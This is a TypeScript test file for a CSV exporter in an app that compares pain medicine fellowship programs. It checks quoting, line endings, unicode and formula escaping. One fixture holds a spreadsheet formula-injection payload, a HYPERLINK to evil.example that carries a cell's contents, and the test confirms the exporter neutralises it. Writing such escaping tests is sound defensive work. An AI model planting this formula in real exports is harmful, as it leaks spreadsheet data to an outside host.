import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { painMedicineCatalog } from '../catalog/pain-medicine';
import { buildComparison, rankPrograms } from '../compare';
import type { ProgramNotes } from '../messages/schema';
import { fact, fakeFacts, fakeItem, fakePage, fakeProgram } from '../../tests/support/factories';
import { csvField, toCsv } from './csv';

/**
 * A strict RFC 4180 reader: records end in CRLF, a quoted field runs to a quote not doubled, and
 * anything else (a bare LF, a quote inside an unquoted field) is an error, not a guess.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  for (;;) {
    let value = '';
    if (text[i] === '"') {
      for (i++; ; i++) {
        if (i >= text.length) throw new Error('unclosed quote');
        if (text[i] === '"') {
          if (text[i + 1] !== '"') break;
          i++;
        }
        value += text[i];
      }
      i++;
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        if (text[i] === '"' || text[i] === '\n') throw new Error(`stray ${JSON.stringify(text[i])} at ${i}`);
        value += text[i++];
      }
    }
    record.push(value);
    if (text[i] === ',') {
      i++;
      continue;
    }
    if (text.slice(i, i + 2) !== '\r\n') throw new Error(`expected CRLF at ${i}`);
    records.push(record);
    record = [];
    i += 2;
    if (i === text.length) return records;
  }
}

/** The file's rows as objects by header, after checking the BOM and that every row is as wide. */
function readBack(csv: string): Array<Record<string, string>> {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const [header, ...rows] = parseCsv(csv.slice(1));
  for (const row of rows) expect(row).toHaveLength(header!.length);
  return rows.map((row) => Object.fromEntries(header!.map((h, i) => [h, row[i]!])));
}

const stipend = { ...fact(80372), pgy: 5, assumedPgy: 5, byPgy: { 5: 80372 }, academicYear: null };
const tricky = fakeProgram({
  programKey: 'tricky/pain',
  name: 'Pain "Medicine", Fellowship',
  institution: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  lastSeen: new Date(2025, 0, 15, 23, 30).getTime(),
  pages: [
    fakePage({
      url: 'https://tricky.example/pain/',
      items: [fakeItem()],
      facts: fakeFacts({
        stipend,
        vacationDays: fact(15),
        benefits: [
          { ...fact(false, 'no moonlighting'), id: 'moonlighting', name: 'Moonlighting', status: 'absent' },
        ],
      }),
    }),
    fakePage({
      url: 'https://tricky.example/pain/benefits/',
      items: [
        fakeItem({ id: 'parking', kind: 'benefit', name: 'Parking', category: 'perks', forms: ['parking'] }),
      ],
    }),
  ],
});
const montreal = fakeProgram({
  programKey: 'montreal/pain',
  name: 'Fellowship',
  customName: 'Université de Montréal — 疼痛 🩺',
  institution: null,
  lastSeen: new Date(2024, 11, 1, 9).getTime(),
  pages: [fakePage({ url: 'https://montreal.example/', facts: fakeFacts({ acgmeAccredited: fact(true) }) })],
});
const empty = fakeProgram({
  programKey: 'empty/pain',
  name: null,
  pages: [],
  lastSeen: new Date(2025, 5, 2).getTime(),
});

const programNotes: ProgramNotes[] = [
  {
    programKey: 'tricky/pain',
    text: 'First line, with "quotes"\nsecond line\r\n+third',
    rating: 4,
    tags: ['top, choice', '@home'],
    updatedAt: 1,
  },
  { programKey: 'montreal/pain', text: '-12 points vs. Rush', rating: null, tags: [], updatedAt: 1 },
];

const programs = [tricky, montreal, empty];
const comparison = buildComparison(programs, painMedicineCatalog);
const desk = { programs, programNotes };

describe('toCsv', () => {
  const csv = toCsv(desk, comparison);
  const rows = readBack(csv);

  test('a BOM, CRLF line ends, a header and one row per program in the order given', () => {
    // parseCsv is strict: a bare LF or CR outside quotes would have failed readBack.
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(Object.keys(rows[0]!)).toEqual([
      'Program',
      'Institution',
      'Website',
      'Pages visited',
      'Last visited',
      'Rating',
      'Tags',
      'My notes',
      'Stipend (PGY-5)',
      'Vacation days',
      'ACGME accredited',
      'Procedures',
      'Benefits',
    ]);
    expect(rows.map((r) => r.Program)).toEqual([
      'Pain "Medicine", Fellowship',
      'Université de Montréal — 疼痛 🩺',
      'empty/pain',
    ]);
  });

  test('quotes, commas, newlines and unicode come back as written', () => {
    expect(rows[0]).toMatchObject({
      Website: 'https://tricky.example/pain/',
      'Pages visited': '2',
      'Last visited': '2025-01-15',
      Rating: '4',
      'My notes': 'First line, with "quotes"\nsecond line\r\n+third',
    });
  });

  test('a cell that would start a formula is made text with an apostrophe', () => {
    expect(rows[0]!.Institution).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Click")`);
    expect(rows[0]!.Tags).toBe('top, choice; @home');
    expect(rows[1]!['My notes']).toBe(`'-12 points vs. Rush`);
    // A line inside a cell may start with one ("+third"): only a cell's start is read as a formula.
    expect(rows.flatMap((r) => Object.values(r)).filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);
  });

  test('facts as the comparison shows them, "not stated" where a program does not say', () => {
    expect(rows.map((r) => [r['Stipend (PGY-5)'], r['Vacation days'], r['ACGME accredited']])).toEqual([
      ['$80,372', '15 days', 'not stated'],
      ['not stated', 'not stated', 'Yes'],
      ['not stated', 'not stated', 'not stated'],
    ]);
  });

  test('procedures and benefits found are listed by name; an explicit no is not', () => {
    expect(rows[0]).toMatchObject({ Procedures: 'Spinal cord stimulation', Benefits: 'Parking' });
    expect(rows[2]).toMatchObject({ Procedures: '', Benefits: '', Website: '', 'Pages visited': '0' });
  });

  test('a score column when a ranking is given, empty for a program it leaves out', () => {
    const ranking = rankPrograms(comparison, { 'spinal-cord-stimulation': 2 });
    const ranked = readBack(toCsv(desk, comparison, ranking));
    expect(ranked.map((r) => r.Score)).toEqual(['100', '0', '0']);
    const partial = readBack(toCsv(desk, comparison, ranking.slice(0, 1)));
    expect(partial.map((r) => r.Score)).toEqual(['100', '', '']);
  });

  test('no programs: the header alone', () => {
    const none = toCsv({ programs: [], programNotes: [] }, buildComparison([], painMedicineCatalog));
    expect(parseCsv(none.slice(1))).toHaveLength(1);
  });
});

describe('csvField', () => {
  const unit = fc.constantFrom(
    '"',
    ',',
    ';',
    '\n',
    '\r',
    '\t',
    '=',
    '+',
    '-',
    '@',
    "'",
    ' ',
    'a',
    'é',
    '疼',
    '🩺',
  );
  test('any text reads back as itself, with an apostrophe ahead of a formula start', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit }), { minLength: 1, maxLength: 5 }), (values) => {
        const [record] = parseCsv(values.map(csvField).join(',') + '\r\n');
        expect(record).toEqual(values.map((v) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v)));
      }),
    );
  });
});
